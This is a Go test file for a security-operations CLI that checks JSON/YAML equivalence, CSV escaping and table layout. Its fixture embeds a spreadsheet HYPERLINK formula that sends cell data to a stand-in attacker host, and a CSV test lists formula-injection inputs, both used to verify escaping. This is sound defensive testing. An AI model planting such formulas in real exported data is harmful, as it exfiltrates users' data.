package cli_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/charmbracelet/x/ansi"
	"github.com/charmbracelet/x/exp/golden"
	"go.yaml.in/yaml/v3"

	"github.com/socctl/socctl/internal/cli"
)

// tty is a host with a terminal so wide.
func (l *lab) tty(width int) cli.Host {
	h := l.host()
	h.InTTY, h.OutTTY, h.Width = true, true, width
	return h
}

// An incident with everything that a format could stumble over, in plain printable text.
func tricky() record {
	return record{
		"id": "1001", "status": "active", "severity": "high", "displayName": `=HYPERLINK("https://evil.example/?x="&A1,"click")`,
		"assignedTo": "-2+3", "createdDateTime": "2026-11-20T06:30:00Z", "lastUpdateDateTime": "2026-11-20T06:30:00Z",
		"customTags":  []string{"yes", "null", "1e3", "0x10", "2026-11-20", "~", "", " lead", "trail ", "a: b", "# no comment", "- item", "{x", "'", `"`, "\\", "!tag", "&a", "*a", "|", ">", "%", "@", "`"},
		"description": "first line\n  second, indented\n\n\tlast: line # with a mark ", "redirectIncidentId": "007",
		"comments": []record{{"comment": "---\nkey: value\n...", "createdByDisplayName": "on", "createdDateTime": "2026-11-20T06:31:00Z"}},
	}
}

// jsonTree and yamlTree read into plain values, numbers as text.
func jsonTree(t *testing.T, s string) any {
	t.Helper()
	d := json.NewDecoder(strings.NewReader(s))
	d.UseNumber()
	var v any
	if err := d.Decode(&v); err != nil {
		t.Fatal(err)
	}
	return v
}

func yamlTree(t *testing.T, s string) any {
	t.Helper()
	var v any
	if err := yaml.Unmarshal([]byte(s), &v); err != nil {
		t.Fatalf("not YAML: %v", err)
	}
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return jsonTree(t, string(b))
}

func TestYAMLReadsBackAsTheJSON(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.serve("FABR", tricky())
	for _, args := range []string{"incidents list -f status:open,resolved", "alerts list --limit 20", "tenants list --offline", "incidents show FABR-1001"} {
		t.Run(args, func(t *testing.T) {
			asJSON := jsonTree(t, l.run(append(strings.Fields(args), "-o", "json")...).exits(exitDone).out)
			asYAML := yamlTree(t, l.run(append(strings.Fields(args), "-o", "yaml")...).exits(exitDone).out)
			dropAges(asJSON)
			dropAges(asYAML)
			if !reflect.DeepEqual(asJSON, asYAML) {
				t.Errorf("the two differ:\n%.3000v\n%.3000v", asJSON, asYAML)
			}
		})
	}
}

// dropAges takes out what depends on how long the read took.
func dropAges(v any) {
	if m, ok := v.(map[string]any); ok {
		list, _ := m["tenants"].([]any)
		for _, c := range list {
			delete(c.(map[string]any), "age_seconds")
		}
	}
}

func TestCSVReadsBack(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	var tabled []record
	titles := []string{"=1+1", "+1", "-1", "@SUM(A1)", "＝1", " =1", "-", "plain, with a comma", `with "quotes"`, "'already", "x=1"}
	for n, s := range titles {
		tabled = append(tabled, record{"alerts": []record{}, "id": fmt.Sprint(1000 + n), "displayName": s, "createdDateTime": "2026-11-20T06:30:00Z", "assignedTo": s})
	}
	l.serveList("FABR", "/v1.0/security/incidents", tabled)
	for noun, header := range map[string]string{
		"incidents": "ref,severity,status,left,customer,title,alerts,owner,created",
		"alerts":    "incident,severity,status,customer,title,source,updated,id",
		"tenants":   "code,customer,state,open,groups,cloud,tenant,problem",
	} {
		r := l.run(noun, "list", "-o", "csv").exits(exitDone)
		rows, err := csv.NewReader(strings.NewReader(r.out)).ReadAll()
		if err != nil || len(rows) < 8 {
			t.Fatalf("%s: %d rows, %v", noun, len(rows), err)
		}
		if got := strings.Join(rows[0], ","); got != header {
			t.Errorf("%s: the header is %s", noun, got)
		}
		for _, row := range rows {
			for n, cell := range row {
				if rows[0][n] == "left" {
					continue // a clock of ours, with a sign where it was missed
				}
				body := strings.TrimLeft(cell, " \t\r\n")
				if r, _ := utf8.DecodeRuneInString(body); body != "-" && strings.ContainsRune("=+-@＝＋－＠", r) {
					t.Errorf("%s: a spreadsheet runs %q", noun, cell)
				}
			}
		}
	}
	rows, _ := csv.NewReader(strings.NewReader(l.run("incidents", "list", "-t", "FABR", "-s", "age", "-o", "csv").out)).ReadAll()
	for n, want := range []string{"'=1+1", "'+1", "'-1", "'@SUM(A1)", "'＝1", "' =1", "-", "plain, with a comma", `with "quotes"`, "'already", "x=1"} {
		if row := rows[n+1]; row[5] != want || row[7] != want {
			t.Errorf("%q became %q, want %q", titles[n], row[5], want)
		}
	}
}

// Where nobody looks, a table is rows for other programs: no header, nothing cut, the same number of cells in each.
func TestTableForProgramsIsTabSeparated(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	long := strings.Repeat("a long title ", 20) + "with an end"
	l.serve("FABR", record{"id": "1001", "displayName": long}, record{"id": "1002", "displayName": "two\tcells\nand lines"})
	h := l.host()
	h.Width = 80 // of a terminal that is not standard output
	out := l.runOn(h, "incidents", "list").exits(exitDone).out
	for line := range strings.Lines(out) {
		if cells := strings.Split(line, "\t"); len(cells) != 9 {
			t.Errorf("%d cells in %q", len(cells), line)
		}
	}
	if strings.Contains(out, "SEVERITY") {
		t.Error("there is a header")
	}
	if !strings.Contains(out, "\t"+long+"\t") {
		t.Error("a title was cut")
	}
}

func TestTableForPeopleFitsTheTerminal(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.serve("FABR", record{"id": "1001", "displayName": strings.Repeat("漢字 title ", 40), "assignedTo": strings.Repeat("somebody ", 30), "severity": "informational"})
	for _, noun := range []string{"incidents", "alerts", "tenants"} {
		for _, width := range []int{1, 40, 80, 160} {
			out := l.runOn(l.tty(width), noun, "list", "--limit", "20").exits(exitDone).out
			lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
			if len(lines) < 9 {
				t.Fatalf("%s at %d: %d lines", noun, width, len(lines))
			}
			for _, line := range lines {
				if w := ansi.StringWidth(line); w > width {
					t.Errorf("%s at %d: a line of %d cells: %s", noun, width, w, line)
				}
			}
			first := map[string]string{"incidents": "REF", "alerts": "INCIDENT", "tenants": "CODE"}[noun]
			if width >= 10 && !strings.HasPrefix(lines[0], first) {
				t.Errorf("%s at %d: the header is %q", noun, width, lines[0])
			}
		}
		if out := l.runOn(l.tty(0), noun, "list").exits(exitDone).out; !strings.Contains(strings.SplitN(out, "\n", 2)[0], "  ") {
			t.Errorf("%s on a terminal of unknown width: %q", noun, out)
		}
	}
}

// The first column is what other commands take: it is never cut as long as there is room for it.
func TestNarrowTablesKeepTheReference(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	for _, width := range []int{40, 60, 80} {
		refs := map[string]bool{}
		for _, i := range l.run("incidents", "list", "-o", "json").json().Items {
			refs[i.Ref] = true
		}
		out := l.runOn(l.tty(width), "incidents", "list").exits(exitDone).out
		for n, line := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
			if ref, _, _ := strings.Cut(line, " "); n > 0 && !refs[ref] {
				t.Errorf("at %d a line begins with %q", width, ref)
			}
			if n == 0 && (!strings.Contains(line, "SEVERITY") || !strings.Contains(line, "TITLE")) {
				t.Errorf("at %d the header is %q", width, line)
			}
		}
	}
}

// What the configuration alone gives does not change from run to run.
func TestTenantsTable(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	for _, width := range []int{60, 80, 140} {
		t.Run(fmt.Sprint(width), func(t *testing.T) {
			golden.RequireEqual(t, l.runOn(l.tty(width), "tenants", "list", "--offline").exits(exitDone).out)
		})
	}
}
